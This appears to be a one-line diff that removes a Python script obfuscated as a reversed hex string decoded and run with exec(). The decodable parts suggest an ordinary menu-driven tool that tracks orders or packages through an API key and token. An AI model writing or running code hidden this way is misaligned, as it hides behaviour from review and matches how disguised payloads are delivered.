@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282563757160702020202a00202020202020202a056e6f6e402e627574756270202020202020202a0a356e6f646f5379602669602020202a0925637c6166402c2d5225646f636f51647f6571722b576b607f54656473656c6563702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702d30256e6f646f5379602020202a002020202a056e6f6e402e627574756270202020202020202a09222e22716e656260276e616970227f6d6f6e602e616b6573716d602e616b616c6963502e2e616b657d65647964602b616469647024756b61605228247e69627070202020202020202a0a376b607f54656473656c656370247f6e602669602020202a002020202a09256e6f6e402c292563696f6863602d3d30292d522275626d657e622b576b607822747370266960237567616b6361607f597d602e6960276b6070227f6660276b6078282478756e602d30276b607f54656473656c6563702020202a056e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0922202e302e6168696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922216d61647550257e656d40256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a09222929757265625820276e616c6570296c65626d656d602b65747e6570227f6d6f6e6028696c6960502022a49f90f0202228247e696270702020202a09222d75353a272d272b722668247e696270702020202a002020202a01302d3b202d657e60202020202020202a00202020202020202a092d70202020202020202a0c25646f636f51647f6571702a3225646f636f51647f6571722020202020202020202020202a0c2d657e602a322275626d657e622020202020202020202020202a0b78246e656070716e237567616b6361607f597d60202020202020202a00202020202020202a09222d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d20202228247e6962707020202020202020202020202a09222d7274737f51647f657b6b702a3021647f657b40202020222668247e696270702020202020202020202020202020202a002020202020202020202020202020202a09276e696e69616d656278227473702d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a022d7c61647f647b702f202d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a02235d43502d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a02235d43502d7c61647f647b702f202d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a322458554452202d3d30256079747f516471646026696c65602020202020202020202020202020202a0224796e656d602d76623e2a30363f276e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a0224796e656d602d76623e2a30363f2c61647f647b702f202d76623e2a30363f276e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a322543494f4652202d3d30256079747f516471646026696c65602020202020202020202020202020202a022d74796e657f576e696e69616d65627b702d74554355425e256c6974735b7d7c61667f576e696e69616d65627b7d7445425e256c6974735b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a022d74796e657f5c61647f647b702d74554355425e256c6974735b7d7c61667f5c61647f647b7d75455c424e256c6974735b702f202d74796e657f576e696e69616d65627b702d74554355425e256c6974735b7d7c61667f576e696e69616d65627b7d7445425e256c6974735b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a00202020202020202020202020202020202020202a0925657274502c2c61647f647821647f65717f54716d627f66602d3024796e657f5c61647f64702c2c61667f5c61647f6470202020202020202020202020202020202020202a0925657274502c276e696e69616d65627821647f65717f54716d627f66602d3024796e657f576e696e69616d6562702c2c61667f576e696e69616d656270202020202020202020202020202020202020202a0a322144514442202d3d30256079747f51647164602669602020202020202020202020202020202a0a0222202d302274737f51647f657b602020202020202020202020202020202a0920302c222c61647f6472282475676e247966656e6562602d302c61647f64702020202020202020202020202020202a0920302c22276e696e69616d656272282475676e247966656e6562602d30276e696e69616d6562702020202020202020202020202020202a0a09222d756079747f516471646b702a30202560797450202020222668247e696270702020202020202020202020202020202a09222d756d616e6b702a3020256d616e40202020222668247e696270702020202020202020202020202020202a09222d74696f547966656e65626b702a30202020244940202020222668247e696270702020202020202020202020202020202a09222d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d20202228247e696270702020202020202020202020202020202a002020202020202020202020202020202a0922214f2e42202c22256079747f5164716462282475676e247966656e6562602d30256079747f51647164602020202020202020202020202020202a092222202c22256d616e62282475676e247966656e6562602d30256d616e602020202020202020202020202020202a092222202c22246962282475676e247966656e6562602d3024696f547966656e6562602020202020202020202020202020202a0a33747966656e6562602e6960247966656e656260227f666020202020202020202020202a09222d74554355425e256c6974735b7a30202023747966656e65624d775f4c4c45495e256c6974735b7020222668247e6962707020202020202020202020202a0a33747966656e656260266960202020202020202a092d5b502c2223747966656e656262282475676e21647f6571702d3023747966656e656260202020202020202a0d2d2d2023545946454e4542402e414b4c49405d414e454d402b45545e455025444f4b402e414841424d414e4540502d2d2d202320202020202020202a0a09222d74554355425e256c6974735b7d75646f636f50757f62776b702a3025646f634020757f62774d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d7274737f54716f546562796078756b702a302025647164402e2078754d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d79747964696c61667b702a302669647b61402163716d4d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d75646f636f51647f65717b702a3025646f634021647f65715d7e454542574e256c6974735b7020222668247e69627070202020202020202a00202020202020202a09222d74554355425e256c6974735b7d756d616e6f5c616964796e696b702a30202020202020216d616e4d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0c69626d616964602c616761676024756b6160702c696164756460216b696a602b6361626c6c616640232020202020202020202020202a0a35637c6560202020202020202a09222d74554355425e256c6974735b7d75646f636f597c696d61666b7d775f4c4c45495e256c6974735b702a35646f6340297c696d61664d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0922214f2e42202c2225646f636f597c696d61666f5567616b63616072282475676e292d7b702c22297c696d61666f5567616b63616072282475676e237c69616475646f5567616b636160702d3025646f636f597c696d61666020202020202020202020202a09222d74554355425e256c6974735b7d756d616e6b702a30202020202020216d616e4d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0020202020202020202020202a092723552a3d452a38452024652d2d652d29552728256d6964766274737e29207d616473756d69647f54716f5465627960787568207d616473756d69647d6f62766e256d696475647164602d302274737f54716f54656279607875602020202020202020202020202020202a0a307d616473756d69647f54716f546562796078756026696020202020202020202020202a01647f65717f5d6f62766f507d616473756d69647f54716f5465627960787560227f60292224716f5465627960787562282475676e2e6f6964707f6f5567616b636160702d30207d616473756d69647f54716f546562796078756020202020202020202020202a0c6167716021647f6571702473796c60256b602b6361626c6c6166602c2c696164756460296271646024716f54656279607875602e616b63716479627f69627050232020202020202020202020202a0020202020202020202020202a0922214f2e42202c2229747964696c616672282475676e2e6f6964707f6f5567616b636160702d3029747964696c61667020202020202020202020202a09256d616e6f5c616964796e69602c22256d616e62282475676e2e6f6964707f6f5567616b636160702d30256d616e6020202020202020202020202a0a0925637c6166402c22246564796d696c6e657f537962282475676e2e6f6964707f6f5567616b636160702d30246564796d696c6e657f53796f5c69616475646020202020202020202020202a0920302c222c61647f6472282475676e2e6f6964707f6f5567616b636160702d302c61647f647f5c69616475646020202020202020202020202a0920302c22276e696e69616d656272282475676e2e6f6964707f6f5567616b636160702d30276e696e69616d65627f5c69616475646020202020202020202020202a016574656b602275626d657370296167616265637024756b6160702c696164756460296271646021647f657b6021647164602c69626d6140232020202020202020202020202a0020202020202020202020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e237c69616475646f5567616b636160702d302e6f6964707f6f5567616b6361607020202020202020202020202a04756b6160702c6961647564602962716460247162757b6160286962656c60276e61697021647164602c69626d6140232020202020202020202020202a0a337c69616475646f5567616b63616070266960202020202020202a00202020202020202a09222d74554355425e256c6974735b7d7d657e6b732024756b61605d7e4149534e256c6974735b722668247e69627070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a02214f2e42202d302274737f54716f5465627960787560202020202020202a02214f2e42202d3029747964696c616670202020202020202a00202020202020202a0925646f636f51647f6571702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d30237c69616475646f5567616b63616070202020202020202a09222e2e2e237c6961647564602d7d657e6b702e2f6e602567616b63616070276e696863647566622668247e69627070202020202020202a00202020202020202a092224716f5465627960787562282475676e21647f6571702d3021647f65717f5d6f62766f507d616473756d69647f54716f5465627960787560202020202020202a0a0925637c6166402c22246564796d696c6e657f537962282475676e21647f6571702d30246564796d696c6e657f53796f5c616964796e6960202020202020202a0920302c222c61647f6472282475676e21647f6571702d302c61647f647f5c616964796e6960202020202020202a0920302c22276e696e69616d656272282475676e21647f6571702d30276e696e69616d65627f5c616964796e6960202020202020202a0924756b6160702271647661646820216d616475702275626d657370296271646021647f657b6021647164602c69626d61402320202020202020202a0d52256d616e622b51647f6571702d30256d616e6f5c616964796e6960202020202020202a0d5225646f636f50757f6277622b51647f6571702d3025646f636f50757f627760202020202020202a05646f636f5e6f6964707f6023716024656375702562602e61634023202d5225646f636f51647f6571722b51647f6571702d3025646f636f51647f657170202020202020202a0a3371647f6571702e696021647f657170227f66602020202a01302d302d657e602020202a0d5b5d30237567616b6361607f597d602020202a0922216971635024756b61605026a39f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202a0d522371647f6571722b5d5221647164622b537562702d302371647f6571702020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09237562702c222a35637e6f607375625228247e69627070202020202020202a0922237567616b636160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e237567616b63616070297d60276e6968636475664228247e696270702020202a002020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a002020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a002020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a3928237567616b6361607f597d6f5863647566602665646a0a037567616b636160702e6275747562702020202a00202020202020202a05657e69647e6f636020202020202020202020202a0928256375716070202020202020202020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a0b6165627260202020202020202020202020202020202020202a0a32203032202d3d302563696f68636f547e656d6971607026696c65602020202020202020202020202020202a0b6165627260202020202020202020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e6960202020202020202020202020202020202020202a0925637962707275647e656f5379602c276b607f54656473656c65637825637168636275707f556c646e65726f556c646e616860202020202020202020202020202020202020202a0a322232202d3d302563696f68636f547e656d6971607026696c65602020202020202020202020202020202a002b6165627260202020202020202020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e696020202020202020202020202020202020202020202020202a0a356e6f646f537960266960202020202020202020202020202020202020202a092d52227564627f6f5e6f6964707f622b576b607f54656473656c65637d327564627f6f5e6f6964707f602c25637962707275647e656f5379602c2d5225646f63622b576b607f54656473656c6563702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702d30256e6f646f537960202020202020202020202020202020202020202a0a322132202d3d302563696f68636f547e656d697160702669602020202020202020202020202020202a0a0922202e302e6168696c696052282475707e69602d302563696f68636f547e656d697160702020202020202020202020202020202a0922296c61626d656b402e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a0922292c6f6f6863635026202b627f675820276e696c646e6572402e6162716971626d6560502e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a09222c616d627f6e402e6162716971626d6560502e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a09222a3e6162716971626d65607025646f64756d6028696c69605e6c5228247e696270702020202020202020202020202020202a0a3565727450256c6968677020202020202020202020202a0a35637c6560202020202020202a056e6f6e402c256e6f6e402e6275747562702020202020202020202020202020202a09282563757160702020202020202020202020202020202a09222e24756b6160702c6961647564602c69626d61676e656d602c616761674228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a056d616e6f59716c60737964602c2c69616475646f5567616b636160702e6275747562702020202020202020202020202020202a022d7d57256d616e6f5e6f6964707f672b576b607f54656473656c65637b702d202d7d57256d616e6f547e6169627166772b576b607f54656473656c65637b702d202d7d57256d616e672b5d57297c696d61666f5567616b636160772b516471646b7226602d30256d616e6f59716c60737964602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a092d5225646f63622b576b607f54656473656c6563702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302c69616475646f5567616b6361607020202020202020202020202a09222e2e2e24756b6160702c6961647564602c69626d61676e656d4228247e6962707020202020202020202020202a0a3c69616475646f5567616b6361607f5e627574756270266960202020202020202a0a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e22716e656260276e616970227f6d6f6e602e616b6573716d602e616b616c6963502e2e616b657d65647964602b616469647024756b61605228247e6962707020202020202020202020202a0a376b607f54656473656c656370247f6e60266960202020202020202a00202020202020202a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e227f6d6f6e602e616b6b6573716d602071627168402e24696c6166702b61646964702475707e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a09256e6f6e402c292d657e6f5563696f6863602d3d302d522275626d657e622b5070266960237567616b636160702e69602070227f66602078282478756e602d30276b607f54656473656c65637020202020202020202020202a092563696f68636f576b6078247e69602d302d657e6f5563696f68636020202020202020202020202a0a39727470202020202020202a0a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f626029646021646160286164657370272d756d616e6f597c696d61666b772025646f6340297c696d6166402f88bfe9b482e22668247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222e2e61607d69637964602c6963716862756260272d756d616e6f597c696d61666b772025646f6340297c696d616640258c92e22668247e696270702020202020202020202020202020202a0a39256d616e6f597c696d6166602c25646f636f597c696d6166682b62716d6b6f6f626f5464616e25636e6164737e694b62716d6b6f6f62497c696d61664026696020202020202020202020202a0927297c696d6166402e677f6e6b6e6557202c27256d616e67282475676e292d7b702c27297c696d61666f5567616b63616077282475676e21647164602d30256d616e6f597c696d61666020202020202020202020202a0a372377202d3d3029282275677f6c6e2563696f68636f576b607026696c6560202020202020202a056e6f6e402e62757475627020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e696020202020202020202020202a0a32203032202d3d302563696f68636f576b6070266960202020202020202a0922202e302e6168696c696052282475707e69602d302563696f68636f576b6070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a0922216d61647550257e656d40256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922296e696025646f6340297c696d6166402e61607d6963502eb29f90f02e2d74554355425e256c6974735b7d537b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092224756b6160702c696164756460247168696c656d602b65747e6570227f6d6f6e6028696c6960502022a49f90f0202228247e69627070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a01302d3b202275626d657e6f547e61696271667020202020202020202020202a09222d75353a272d272b722668247e696270702020202020202020202020202020202a0a3923747e61696271667f5567616b636160782e656c602c302275626d657e6f547e61696271667026696020202020202020202020202a0020202020202020202020202a01302d3b202275626d657e6f5e6f6964707f602020202020202020202020202020202a002020202020202020202020202020202a0922292d74554355425e256c6974735b7d79747964696c61667b7d75455c424e256c6974735b78202d74554355425e256c6974735b7d7d572563696270772b5e6f6964707f6b7020725d7e454542574e256c6974735b702d202d74554355425e256c6974735b7d756d616e6f5e6f6964707f6b7d775f4c4c45495e256c6974735b702e2d74554355425e256c6974735b7d5d74623a3275626d657e6f5e6f6964707f6b7b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a002020202020202020202020202020202a0929223d347e65646e69602c2e6f6964707f6823707d65746e2e6f637a68247e6962707023202020202020202020202020202020202a002020202020202020202020202020202a092d702020202020202020202020202020202a0d52227564627f622b5e6f6964707f602a32227564627f6f5e6f6964707f6220202020202020202020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5e6f6964707f602a3225646f636220202020202020202020202020202020202020202a0c29747964696c6166702a3229747964696c61667220202020202020202020202020202020202020202a0c2d522563696270722b5e6f6964707f602a3225636962707220202020202020202020202020202020202020202a0c256d616e6f5e6f6964707f602a32256d616e6f5e6f6964707f6220202020202020202020202020202020202020202a0c256d616e6f547e6169627166702a32256d616e6f547e61696271667220202020202020202020202020202020202020202a0c2275626d657e6f5e6f6964707f602a322275626d657e6220202020202020202020202020202020202020202a0b78246e656070716e237567616b636160702020202020202020202020202020202a002020202020202020202020202020202a092222202c2229747964696c616672282475676e2e6f6964707f602d3029747964696c6166702020202020202020202020202020202a0d52256d616e622b5e6f6964707f602d30256d616e6f5e6f6964707f602020202020202020202020202020202a0a3d52237e6f6964707f6f5567616b636160722b547e6169627166702e69602e6f6964707f60227f666020202020202020202020202a09222d75646f636f547e61696271667b702a35646f6340222668247e69627070232020202020202020202020202a09222d756d616e6f547e61696271667b702a3d7275626d657e6f547e61696271667b70247e61696271665020a29f90f22668247e6962707020202020202020202020202a0d5225646f636f547e61696271667f5567616b636160722b547e6169627166702d3025646f636f547e61696271667020202020202020202020202a0d52256d616e622b547e6169627166702d30256d616e6f547e61696271667020202020202020202020202a0a33747e61696271667f5567616b636160702e6960247e616962716670227f6660202020202020202a00202020202020202a01302d302275626d657e6f547e616962716670202020202020202a01302d302275626d657e6f5e6f6964707f60202020202020202a00202020202020202a0d5223747e61696271667f5567616b636160722b51647164602d3023747e61696271667f5567616b63616070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a09222d7d57256079747f597c696d61666f5567616b636160772b5d57297c696d61666f5567616b636160772b516471646b702a30202020202020256079645020222668247e69627070202020202020202a09222d75646f636f597c696d61666b702a35646f6340297c696d61664020222668247e69627070202020202020202a09222d7d57256d616e672b5d57297c696d61666f5567616b636160772b516471646b702a34756b616050227164766164402f88bfed8b9f90f226682275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a0a357e656d6f5567616b6361607f5e6960256c696867702020202a05657274502d30257e656d6f5567616b6361607f5e69602020202a002020202a00202020256e6f6e402e627574756270202020202020202a09222e2164716460297c696d61666024616f6c602f647024656c6961664228247e69627070202020202020202a0a3164716460247f6e602669602020202a09202020202a056079747f5e6f6964716277696d60202020202020202a0c25637962707275647e656f537960202020202020202a0c25646f636f597c696d616660202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0822367f597c696d61666f547567602d3021647164602020202a09256079747f5e6f6964716277696d602c25637962707275647e656f5379602c25646f636f597c696d6166602c237e656b6f64702c29756b6f59607168297c696d61666f547567602d30216471646023202020202a002020202a0d5b502d30237567616b636160702020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392a05637c6166402d302c6f6f62602a3c69616475646f5567616b6361607f5e6275747562702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0a08297c696d61666f59726f537567616b6361607f547567602665646a0a0a0e6275747562702020202a0a092825637571607020202020202020202020202a09222e2967616c6021626f63602e616b68616c6963502e24696c6166702b616469647025646f64756d4228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a092825637571607020202020202020202020202a09222e2e616b6c616471626964602e61696c65626d65605228247e6962707020202020202020202020202a0a322032202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716825636e616c61626f547e656d656c647475637020202020202020202020202a0a322332202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a322232202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a322132202d3d30246f6864756d6f5475707e6960266960202020202020202a0922202a39227f6d6f6e682025646f64756d6028696c696052282475707e69602d30246f6864756d6f5475707e6960202020202020202a00202020202020202a09222d75323a272d272b722668247e69627070202020202020202a09222c61647162402f88bfe9a682e02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922292971605565607f6863502c2f465f402c2971605f67402c214e4144482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222a3e6162716971626d65605025646f64756d4e6c5228247e69627070202020202020202a0a357e656d6f547e656d6971607f5e6960256c696867702020202a05657274502d30257e656d6f547e656d6971607f5e69602020202a0a09222d75353a272d272b722668247e696270702020202a09222d75636962707f5c61647f647b702072502a3c61647f645021676271684020222668247e696270702020202a09222d75353a272d272b722668247e696270702020202a0922292d7d5725636962707f5d656479672b5d6564796b70207258202d7d57256d616e6f5d656479672b5d6564796b702d2020222668247e69627070202020202020202a0a337d6564796f547e656d697160702e69602d65647960227f66602020202a09222a34757b696275626024756b616070296c65626d656d602e616b616021646e614228247e696270702020202a0922276e696c646e6572402e61696c65626d6560502963716d6279666e6f6b40229b9f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a0a09237d6564796f547e656d697160702e69602d65647960227f66602d5725636962707f5d656479672b5d656479682d6573702d3025636962707f5c61647f64702020202a0a0d502020202a0d70202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646f5567616b6361607f5377702a322e6f6964716d6279666e6f636f5e656b6f64722020202020202020202020202a0c20302a32287164722020202020202020202020202a0c292820796274737e272d7d52256d616e622b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f53777b702d7d52256d616e622b5d52297c696d61666f5567616b636160722b5c69616475646f5567616b6361607f53777b7726602a32256d616e6f5d656479622020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5377702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5377702a3225646f636f5d656479622020202020202020202020202a0b70202020202020202a0c2d70202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646f5567616b6361607f5972716d696270702a322e6f6964716d6279666e6f636f5e656b6f64722020202020202020202020202a0c20302a32287164722020202020202020202020202a0c292820796274737e272d7d52256d616e6f5e6f6964707f622b5567616b6361607f5972716d6962707b702d7d52256d616e6f547e6169627166722b5567616b6361607f5972716d6962707b7726602a32256d616e6f5d656479622020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5972716d696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5972716d696270702a3225646f636f5d656479622020202020202020202020202a0b70202020202020202a0b502d30237d6564796f547e656d697160702020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e2c6f6f6863635026202b627f675024756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a3c69616475646f5567616b6361607f537770247f6e602669602020202a0925637962707275647e656f53796f5377702c227564627f6f5377702c256d616e6f547e61696271667f5377702c25646f636f597c696d61666f5377702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b6361607f5377702020202a0567616b636160702c6f6f6863635026202b627f675025686470227f6660237c696164756460247567402e223023202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e216d6164757024756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a3c69616475646f5567616b6361607f5972716d69627070247f6e602669602020202a092d5225646f63622b5567616b6361607f5972716d696270702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302c69616475646f5567616b6361607f5972716d696270702020202a0567616b636160702972716d6962707025686470227f6660237c696164756460247567402e213023202020202a0a09222e2e2e276e696c646e6572602b65747e657024756b6160702c6961647564602c69626d61676e656d4228247e696270702020202a0a05637c6166402d3025637962707275647e656f53796f5377702020202a06302d30227564627f6f5377702020202a022c6f6f6863635026202b627f6752202d30256d616e6f547e61696271667f5377702020202a022661353130323365303036623d283334383d236436643d203936643d246464646336346532202d3025646f636f597c696d61666f5377702020202a04656c646e6572602562602f64702567616b63616070222c6f6f6863635026202b627f67522025686470227f6660237c69616475644023202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392972716d6962707f55637962707275647e656f5379602c2567616b6361607f5972716d6962707825637168636275707f556c646e65726f556c646e6168602665646a0a092038247968756e237973702020202a09282563757160702020202a05637c6166402e62757475627020202020202020202020202a09222e24656c6c65636e61636025637168636275705228247e6962707020202020202020202020202a0a35637c6560202020202020202a092020202020202020202020202a056d616e6f547e61696271667d356d616e6f5d656479602020202020202020202020202020202a0c25636962707d3563696270702020202020202020202020202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d697160702020202020202020202020202020202a0c2e6769637f5f647f53747d3e6769637f5f647f5374702020202020202020202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f64702020202020202020202020202020202a0c237e656b6f647d337e656b6f64702020202020202020202020202020202a0c29756b6f5960716d39756b6f596071602020202020202020202020202020202a0829747e657f626f547e656d656c647475637020202020202020202020202a0a3222554843455f465f5d454544454252202d3d30227f666f547e656d69716070246e6160272537202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a02222d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a092020202020202020202020202a09202020202020202020202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b54607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d38716470202020202020202020202020202020202020202a0c2d52256d616e622b5d522e6f6964707f6f5567616b636160722b54607d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b54607d35636962707f5d65647960202020202020202020202020202020202020202a0c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b54607d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d697160502020202020202020202020202020202a08246e656070716e237d6564796f547e656d6971607020202020202020202020202a0020202020202020202020202a092020202020202020202020202a0c22254e4f4e42202020202020202020202020202020202a0c25637c